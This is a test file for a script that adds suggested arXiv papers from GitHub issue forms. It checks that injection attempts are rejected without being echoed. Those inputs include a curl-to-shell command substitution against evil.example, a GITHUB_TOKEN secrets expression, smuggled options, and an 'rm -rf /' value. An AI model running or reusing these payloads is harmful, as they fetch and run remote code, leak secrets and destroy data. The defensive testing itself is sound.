import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { main, type SuggestionContext } from "../../../scripts/add-suggested-paper.ts";
import { createProgress } from "../../../src/lib/authoring/progress.ts";
import { SUGGESTION_FORM_LABELS } from "../../../src/lib/authoring/suggestion-form.ts";
import { fakeClock } from "../../support/fake-clock.ts";
import { startFakeArxiv, type FakeArxiv } from "../../support/fake-arxiv-server.ts";

let folder: string;
let papersDir: string;
let fake: FakeArxiv;
let stdout: string[];
let stderr: string[];

beforeEach(async () => {
  folder = await mkdtemp(path.join(tmpdir(), "suggestion-"));
  papersDir = path.join(folder, "papers");
  stdout = [];
  stderr = [];
  fake = await startFakeArxiv();
});

afterEach(async () => {
  await fake.close();
  await rm(folder, { recursive: true, force: true });
});

/** The body GitHub writes for the form with these answers ("" for a field left empty). */
function formBody(paper: string, day = "", tags = ""): string {
  const answer = (value: string) => value || "_No response_";
  return [
    `### ${SUGGESTION_FORM_LABELS.paper}\n\n${paper}`,
    `### ${SUGGESTION_FORM_LABELS.day}\n\n${answer(day)}`,
    `### ${SUGGESTION_FORM_LABELS.tags}\n\n${answer(tags)}`,
    `### ${SUGGESTION_FORM_LABELS.why}\n\n_No response_`,
    `### ${SUGGESTION_FORM_LABELS.checks}\n\n- [X] I searched the site and the open issues, and this paper is not there yet.`,
  ].join("\n\n");
}

async function suggest(
  issue: unknown,
  validate?: SuggestionContext["validate"],
): Promise<{ code: number; outputs: string; written: Record<string, string> }> {
  const event = path.join(folder, "event.json");
  await writeFile(event, JSON.stringify(issue));
  const outputs = path.join(folder, "outputs");
  await writeFile(outputs, "");
  const code = await main(["--out", "answer", "--event", event], {
    papersDir,
    root: folder,
    env: { ARXIV_API_URL: fake.url, GITHUB_OUTPUT: outputs, INIT_CWD: folder },
    now: () => new Date("2025-08-01T23:30:00Z"),
    arxiv: { clock: fakeClock(), timeout: 10_000 },
    progress: createProgress({ write: () => true, isTTY: false }),
    stdout: (line) => stdout.push(line),
    stderr: (line) => stderr.push(line),
    ...(validate ? { validate } : {}),
  });
  const written: Record<string, string> = {};
  const answer = path.join(folder, "answer");
  for (const name of await readdir(answer).catch(() => [])) {
    written[name] = await readFile(path.join(answer, name), "utf8");
  }
  return { code, outputs: await readFile(outputs, "utf8"), written };
}

async function papers(): Promise<string[]> {
  const entries = await readdir(papersDir, { recursive: true, withFileTypes: true }).catch(
    () => [],
  );
  return entries
    .filter((entry) => entry.isFile())
    .map((entry) => path.relative(papersDir, path.join(entry.parentPath, entry.name)))
    .sort();
}

const issue = (body: unknown, number: unknown = 12) => ({
  action: "opened",
  issue: { number, body },
});
const AGAIN =
  "Edit the issue to change the answers and this check runs again; a maintainer reads every suggestion too.";

describe("workflow:suggestion", () => {
  it("adds the paper on the day and with the tags asked for, and writes the pull request's description", async () => {
    const result = await suggest(
      issue(formBody("https://arxiv.org/abs/2307.03381", "2025-07-31", "multimodal, robotics")),
    );
    expect(result.code).toBe(0);
    expect(await papers()).toEqual(["2025/07/31/2307.03381.mdx"]);
    const paper = await readFile(path.join(papersDir, "2025/07/31/2307.03381.mdx"), "utf8");
    expect(paper).toContain(`tags: ["cs-cv", "multimodal", "robotics"]`);
    expect(result.outputs).toBe(
      "outcome=added\narxiv=2307.03381\nday=2025-07-31\nfile=papers/2025/07/31/2307.03381.mdx\n",
    );
    expect(result.written).toEqual({
      "pull-request.md": [
        "Adds arXiv [2307.03381](https://arxiv.org/abs/2307.03381) to the papers of 2025-07-31, as suggested in #12.",
        "",
        "Closes #12.",
        "",
        "```text",
        "added     papers/2025/07/31/2307.03381.mdx  (Geodesic Multi-Modal Mixup for Robust Fine-Tuning)",
        "added 1, skipped 0, failed 0",
        "papers:validate: all 1 papers are valid (of 1 in papers)",
        "```",
        "",
      ].join("\n"),
    });
    expect(stdout).toEqual(["workflow:suggestion: added papers/2025/07/31/2307.03381.mdx"]);
  });

  it("adds the paper to today's papers (UTC) when no day is given", async () => {
    const result = await suggest(issue(formBody("2307.03381")));
    expect(await papers()).toEqual(["2025/08/01/2307.03381.mdx"]);
    expect(result.outputs).toContain("day=2025-08-01\n");
  });

  it.each([
    ["a command substitution", formBody("$(curl https://evil.example/x | sh)")],
    ["backticks and quotes", formBody("`id` \"'")],
    ["a workflow expression", formBody("${{ secrets.GITHUB_TOKEN }}")],
    ["an option smuggled in", formBody("2307.03381 --force")],
    ["an option in the tags", formBody("2307.03381", "", "--force")],
    ["a second line", formBody("2307.03381\n--date 1999-01-01")],
    ["a megabyte", formBody("2307.03381", "", "").replace("_No response_", "x".repeat(1_048_576))],
    ["free text", "please add arxiv 2307.03381"],
    ["no body", null],
  ])("answers %s politely, asking arXiv nothing and writing no paper", async (_, body) => {
    const result = await suggest(issue(body));
    expect(result.code).toBe(0);
    expect(result.outputs).toBe("outcome=rejected\narxiv=\n");
    expect(Object.keys(result.written)).toEqual(["comment.md"]);
    const comment = result.written["comment.md"] ?? "";
    expect(comment).toMatch(
      /^Thank you for the suggestion! It could not be added automatically:\n\n- /,
    );
    expect(comment.endsWith(`${AGAIN}\n`)).toBe(true);
    // What was written is not repeated back.
    for (const hostile of ["$(", "`id`", "${{", "--force", "--date", "xxxx"]) {
      expect(comment).not.toContain(hostile);
    }
    expect(fake.requests).toEqual([]);
    expect(await papers()).toEqual([]);
  });

  it("answers with papers:add's exact message when the paper is already in the collection", async () => {
    await mkdir(path.join(papersDir, "2025/07/30"), { recursive: true });
    await suggest(issue(formBody("2307.03381", "2025-07-30")));
    const again = await suggest(issue(formBody("2307.03381v2", "2025-07-31")));
    expect(again.outputs).toBe("outcome=rejected\narxiv=2307.03381v2\n");
    expect(again.written["comment.md"]).toBe(
      [
        "Thank you for the suggestion! `papers:add` did not add arXiv 2307.03381v2:",
        "",
        "```text",
        "skipped   2307.03381  already in papers/2025/07/30/2307.03381.mdx (--force fetches it again)",
        "added 0, skipped 1, failed 0",
        "```",
        "",
        AGAIN,
        "",
      ].join("\n"),
    );
    expect(await papers()).toEqual(["2025/07/30/2307.03381.mdx"]);
  });

  it("answers with papers:add's exact message when arXiv has no such paper", async () => {
    const result = await suggest(issue(formBody("2501.00000")));
    expect(result.outputs).toBe("outcome=rejected\narxiv=2501.00000\n");
    const comment = result.written["comment.md"] ?? "";
    expect(comment.split("\n").slice(0, 3)).toEqual([
      "Thank you for the suggestion! `papers:add` could not add arXiv 2501.00000:",
      "",
      "```text",
    ]);
    expect(comment).toContain("\nadded 0, skipped 0, failed 1\n```\n");
    expect(await papers()).toEqual([]);
  });

  it("answers with the validator's exact message, and takes the paper away again", async () => {
    const problem =
      "papers/2025/07/31/2307.03381.mdx:1:1  path  a problem only the validator finds";
    const result = await suggest(issue(formBody("2307.03381", "2025-07-31")), (argv, context) => {
      context?.stdout?.(problem);
      return Promise.resolve(argv.length === 1 ? 1 : 0);
    });
    expect(result.outputs).toBe("outcome=rejected\narxiv=2307.03381\n");
    expect(result.written["comment.md"]).toBe(
      [
        "Thank you for the suggestion! `papers:validate` found problems, so arXiv 2307.03381 was not added:",
        "",
        "```text",
        problem,
        "```",
        "",
        AGAIN,
        "",
      ].join("\n"),
    );
    expect(await papers()).toEqual([]);
    expect(await readdir(papersDir)).toEqual([]);
  });

  it.each([
    ["no issue", { action: "opened" }],
    ["a number that is not one", issue(formBody("2307.03381"), "12; rm -rf /")],
  ])("stops on an event with %s", async (_, event) => {
    const result = await suggest(event);
    expect(result.code).toBe(1);
    expect(stderr).toEqual(["workflow:suggestion: the event file holds no issue with a number"]);
    expect(await papers()).toEqual([]);
  });
});
